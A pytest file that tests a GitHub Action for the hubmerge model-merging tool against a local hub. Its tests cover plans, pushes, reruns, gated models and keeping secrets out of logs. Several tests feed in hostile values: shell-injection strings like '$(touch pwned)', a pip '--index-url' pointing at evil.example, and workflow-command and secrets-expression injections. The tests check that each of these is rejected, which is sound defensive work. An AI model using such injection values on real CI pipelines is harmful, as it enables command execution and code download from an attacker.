"""action.yml, its scripts run as they stand in it, with GitHub's environment, against the local Hub."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from hubmerge import __version__
from hubmerge.localhub import Fault, LocalHub, User
from hubmerge.localhub.faults import EXPIRED_BODY
from tests.actions.github import REPOSITORY, ROOT, Ran, Runner
from tests.end_to_end.support import Town, save, tensors

OWNER = User("local", "hf_writeTokenOfTheOwner")
META = User("meta", "hf_writeTokenOfMeta")
SECRETS = (OWNER.token, META.token, "hf_jwt_", "hf_oauth_")
TARGET = "local/merged"
RECIPE = """\
method: task_arithmetic
base: local/base
models: [local/a]
parameters: {scale: 0.5}
output: {shard_size: 2KB}
"""


@pytest.fixture(scope="module")
def temp(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One machine's folder for all tests of this file: what the installing step leaves is used by the others."""
    return tmp_path_factory.mktemp("runner")


@pytest.fixture
def town(start_hub: Callable[..., LocalHub], tmp_path: Path) -> Town:
    town = Town(start_hub(users=(OWNER, META)))
    for seed, name in enumerate(("base", "a")):
        town.publish(f"local/{name}", save(tmp_path / name, tensors(seed)))
    return town


@pytest.fixture
def runner(town: Town, temp: Path, tmp_path: Path) -> Runner:
    workspace = tmp_path / "checkout"
    workspace.mkdir()
    (workspace / "merge.yaml").write_text(RECIPE)
    made = Runner(temp, workspace, town.hub, variables={"HF_HOME": str(tmp_path / "hf_home")})
    if not (temp / "hubmerge").exists():
        installed = made.uses(install=True, recipe="none.yaml", mode="none")
        assert (temp / "hubmerge" / "bin" / "hubmerge").is_file(), installed.text
    return made


def trusted(town: Town) -> None:
    """The target exists, and trusts this job."""
    town.api.create_repo(TARGET, private=True)
    town.hub.trust(TARGET, repository=REPOSITORY, branch="main", workflow="merge.yml")


def check_quiet(ran: Ran) -> None:
    """No credential anywhere people look."""
    kept = "".join(p.read_text() for p in ran.artifact.iterdir()) if ran.artifact else ""
    for secret in SECRETS:
        assert secret not in ran.text + ran.summary + kept


def test_the_action_installs_its_own_commit(runner: Runner, temp: Path) -> None:
    shown = subprocess.run(
        [temp / "hubmerge" / "bin" / "python", "-P", "-c", "import hubmerge; print(hubmerge.__file__)"],
        env=runner.environment(), cwd=runner.workspace, capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert Path(shown.stdout.strip()).is_relative_to(temp / "hubmerge")
    program = temp / "hubmerge" / "bin" / "hubmerge"
    subprocess.run([program, "workflow", "init"], env=runner.environment(), cwd=runner.workspace, check=True)
    assert (runner.workspace / ".github/workflows/merge.yml").is_file()  # the template is in the package


@pytest.mark.slow
def test_the_action_installs_a_release_or_says_that_there_is_none(
    town: Town, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "fresh").mkdir()
    runner = Runner(tmp_path / "fresh", tmp_path, town.hub)
    for hostile in ("0.0.0", '1; touch "$HOME/pwned"', "1 --index-url=https://evil.example", "$(touch pwned)"):
        failed = runner.uses(install=True, recipe="merge.yaml", version=hostile)
        assert failed.code == 1
        assert "hubmerge==" in failed.text or "Invalid requirement" in failed.text
    assert not list(tmp_path.rglob("pwned"))
    assert __version__ in (ROOT / "hubmerge/__init__.py").read_text()


def test_plan_then_push_without_a_secret(runner: Runner, town: Town) -> None:
    trusted(town)
    planned = runner.uses(recipe="merge.yaml", mode="plan", repo_id=TARGET)
    assert planned.code == 0, planned.text
    assert not any(planned.outputs[name] for name in ("url", "commit", "lock_sha256", "path"))
    assert planned.files == {"recipe.yaml", "plan.json", "log.txt"}
    pushed = runner.uses(
        recipe="merge.yaml", mode="push", repo_id=TARGET, plan=planned.outputs["plan"], flags="--license=mit"
    )
    assert pushed.code == 0, pushed.text
    head = town.api.list_repo_commits(TARGET)[0]
    assert head.authors == ["[OIDC]"]
    assert pushed.outputs["plan"] == planned.outputs["plan"]
    assert pushed.outputs["url"] == f"{town.hub.endpoint}/{TARGET}"
    assert pushed.outputs["commit"] == head.commit_id
    assert pushed.files == {
        "recipe.yaml", "plan.json", "result.json", "log.txt", "hubmerge.lock.json", "README.md"
    }  # fmt: skip
    assert pushed.artifact is not None
    lock = (pushed.artifact / "hubmerge.lock.json").read_bytes()
    assert hashlib.sha256(lock).hexdigest() == pushed.outputs["lock_sha256"]
    assert "license: mit" in (pushed.artifact / "README.md").read_text()
    for text in ("task_arithmetic", "### Licence: allowed", "### Timing", pushed.outputs["lock_sha256"],
                 f"({town.hub.endpoint}/{TARGET})", "https://git.example/me/recipes/actions/runs/4711",
                 "https://git.example/me/recipes/blob/", f"({town.hub.endpoint}/local/base/tree/"):  # fmt: skip
        assert text in pushed.summary
    for ran in (planned, pushed):
        check_quiet(ran)


@pytest.mark.slow
def test_a_plan_that_nobody_has_approved_is_not_run(runner: Runner, town: Town) -> None:
    trusted(town)
    before = town.state(TARGET)
    refused = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET, plan="0" * 64)
    assert refused.code == 1
    assert f"approved was {'0' * 64}" in refused.log
    assert "failed with exit code 1" in refused.summary
    assert "### Plan" in refused.summary
    assert town.state(TARGET) == before


def test_a_recipe_that_fails(runner: Runner, town: Town) -> None:
    trusted(town)
    before = town.state(TARGET)
    (runner.workspace / "bad.yaml").write_text(RECIPE.replace("scale", "scael"))
    failed = runner.uses(recipe="bad.yaml", mode="push", repo_id=TARGET)
    assert failed.code == 2
    assert "bad.yaml:4" in failed.log
    assert "failed with exit code 2" in failed.summary
    assert "scael" in failed.summary
    assert {"recipe.yaml", "log.txt"} <= failed.files
    assert not failed.outputs["url"]
    assert town.state(TARGET) == before


REFUSED = [
    ("repo_id", 'local/x"; touch pwned; "'),
    ("repo_id", "local/$(touch pwned)"),
    ("repo_id", "local/x\n::set-output name=url::evil"),
    ("mode", "push; touch pwned"),
    ("create_pr", "true && touch pwned"),
    ("plan", "`touch pwned`"),
    ("read_as", "${{ secrets.HF_TOKEN }}"),
    ("flags", "--license\n$(touch pwned)\n'; touch pwned"),
    ("flags", "--to=local/other"),
]
PASSED_ON = [
    ("recipe", "$(touch pwned).yaml"),
    ("recipe", "merge.yaml\nGITHUB_ENV=x"),
    ("recipe", "--help"),
    ("flags", "--license=mit; touch pwned --out=/tmp"),
]
SHOWN = (REFUSED[2], REFUSED[7], PASSED_ON[0])
HOSTILE = [
    pytest.param(*case, id=f"{case[0]}-{i}", marks=() if case in SHOWN else pytest.mark.slow)
    for i, case in enumerate([*REFUSED, *PASSED_ON])
]


@pytest.mark.parametrize(("name", "value"), HOSTILE)
def test_hostile_inputs_are_only_text(name: str, value: str, runner: Runner, town: Town) -> None:
    given = {"recipe": "merge.yaml", "mode": "push", "repo_id": TARGET, "hf_token": OWNER.token, name: value}
    ran = runner.uses(**given)
    assert ran.code == 2, ran.text
    assert "failed with exit code 2" in ran.summary
    assert {p.name for p in runner.workspace.iterdir()} == {"merge.yaml"}
    assert not ran.outputs["url"]
    assert not any(line.startswith(("::set-output", "::add-path", "::set-env")) for line in ran.text.splitlines())
    assert town.state(TARGET) is None
    check_quiet(ran)


@pytest.mark.slow
def test_a_hostile_name_of_a_recipe_is_the_name_of_a_recipe(runner: Runner, town: Town) -> None:
    name = """$(touch pwned) "'`; ${{ github.token }} | <b>x.yaml"""
    (runner.workspace / name).write_text(RECIPE)
    ran = runner.uses(recipe=name, mode="plan", flags="--max-memory\n4GB\n--tag=$(touch pwned)\n--verbose")
    assert ran.code == 0, ran.text
    assert {p.name for p in runner.workspace.iterdir()} == {"merge.yaml", name}
    assert "<b>" not in ran.summary.replace("`; ${{ github.token }} | <b>x.yaml", "")


@pytest.mark.slow
def test_what_a_model_says_is_no_command_to_the_runner(runner: Runner, town: Town) -> None:
    (runner.workspace / "bad.yaml").write_text(RECIPE + '"::add-mask::x\\n::error::y": 1\n')
    ran = runner.uses(recipe="bad.yaml")
    lines = ran.text.splitlines()
    stop = next(i for i, line in enumerate(lines) if line.startswith("::stop-commands::"))
    end = lines.index(f"::{lines[stop].removeprefix('::stop-commands::')}::")
    inside = [i for i, line in enumerate(lines) if "::error::" in line or "::add-mask::" in line]
    assert inside
    assert all(stop < i < end for i in inside)


@pytest.mark.slow
def test_merge_makes_a_folder_within_the_budgets(runner: Runner, town: Town) -> None:
    merged = runner.uses(recipe="merge.yaml", mode="merge")
    assert merged.code == 0, merged.text
    folder = Path(merged.outputs["path"])
    assert {"model.safetensors.index.json", "hubmerge.lock.json", "config.json"} <= {p.name for p in folder.iterdir()}
    assert folder.is_relative_to(runner.temp)
    assert merged.artifact is not None
    assert {"hubmerge.lock.json", "README.md"} <= merged.files
    assert not any(name.endswith(".safetensors") for name in merged.files)
    told = json.loads((merged.artifact / "result.json").read_text())
    assert told["plan_sha256"] == merged.outputs["plan"]
    assert "| most memory held |" in merged.summary


@pytest.mark.slow
def test_a_rerun_resumes(runner: Runner, town: Town) -> None:
    trusted(town)
    broken = town.hub.faults.add(Fault("PUT", "^/_lfs/", skip=1, times=None, status=403, body=EXPIRED_BODY))
    first = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET)
    assert first.code == 1, first.text
    assert "### The end of the log" in first.summary
    state = town.state(TARGET)
    assert state is not None
    assert any(name.startswith("hubmerge/stage-") for name in state.branches)
    assert {"plan.json", "log.txt"} <= first.files
    town.hub.faults.clear()
    assert broken.hits
    town.hub.requests.clear()
    again = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET)
    assert again.code == 0, again.text
    whole = json.loads((again.artifact / "result.json").read_text())["files"] if again.artifact else []
    shards = [f for f in whole if f["path"].endswith(".safetensors")]
    assert len(town.hub.requests.find("PUT", "^/_lfs/")) == len(shards) - 1
    state = town.state(TARGET)
    assert state is not None
    assert set(state.branches) == {"main"}


@pytest.mark.slow
def test_a_gated_base_is_read_as_the_user_and_published_as_the_job(runner: Runner, town: Town, tmp_path: Path) -> None:
    from huggingface_hub import HfApi

    meta = HfApi(endpoint=town.hub.endpoint, token=META.token)
    meta.create_repo("meta/base")
    meta.upload_folder(repo_id="meta/base", folder_path=tmp_path / "base")
    town.hub.set_gated("meta/base", True)
    town.hub.grant_access("meta/base", "local")
    trusted(town)
    (runner.workspace / "gated.yaml").write_text(RECIPE.replace("local/base", "meta/base"))
    refused = runner.uses(recipe="gated.yaml", mode="push", repo_id=TARGET)
    assert refused.code == 4
    assert "meta/base is gated" in refused.log
    town.hub.trust("local", repository=REPOSITORY)
    pushed = runner.uses(recipe="gated.yaml", mode="push", repo_id=TARGET, read_as="local")
    assert pushed.code == 0, pushed.text
    assert town.api.list_repo_commits(TARGET)[0].authors == ["[OIDC]"]
    check_quiet(pushed)


@pytest.mark.slow
def test_without_an_identity_a_token_is_needed_and_is_enough(runner: Runner, town: Town) -> None:
    runner.identity = False
    refused = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET)
    assert refused.code == 4
    assert "id-token: write" in refused.log
    pushed = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET, hf_token=OWNER.token, create_pr="false")
    assert pushed.code == 0, pushed.text
    (runner.workspace / "merge.yaml").write_text(RECIPE.replace("0.5", "0.25"))
    proposed = runner.uses(recipe="merge.yaml", mode="push", repo_id=TARGET, hf_token=OWNER.token, create_pr="true")
    assert proposed.code == 0, proposed.text
    assert proposed.outputs["url"].endswith("/discussions/1")
    for ran in (pushed, proposed):
        check_quiet(ran)


@pytest.mark.slow
def test_a_cancelled_job_leaves_its_summary_and_no_process(runner: Runner, town: Town, tmp_path: Path) -> None:
    trusted(town)
    town.hub.requests.clear()
    town.hub.faults.add(Fault("PUT", "^/_lfs/", stall_upload_after_bytes=0))
    files = {name: tmp_path / name for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    inputs = {"RECIPE": "merge.yaml", "MODE": "push", "REPO_ID": TARGET}
    variables = {**{f"HUBMERGE_INPUT_{k}": v for k, v in inputs.items()}, **{k: str(v) for k, v in files.items()}}
    step = subprocess.Popen(
        [runner.temp / "hubmerge" / "bin" / "hubmerge", "workflow", "run"],
        env=runner.environment() | variables, cwd=runner.workspace, stdout=subprocess.PIPE, text=True,
        start_new_session=True,
    )  # fmt: skip
    with step:
        deadline = time.monotonic() + 120
        while not town.hub.requests.find("PUT", "^/_lfs/"):
            assert time.monotonic() < deadline
            time.sleep(0.05)
        os.kill(step.pid, signal.SIGTERM)
        out, _ = step.communicate(timeout=60)
    assert step.returncode == 130, out
    assert "failed with exit code 130" in files["GITHUB_STEP_SUMMARY"].read_text()
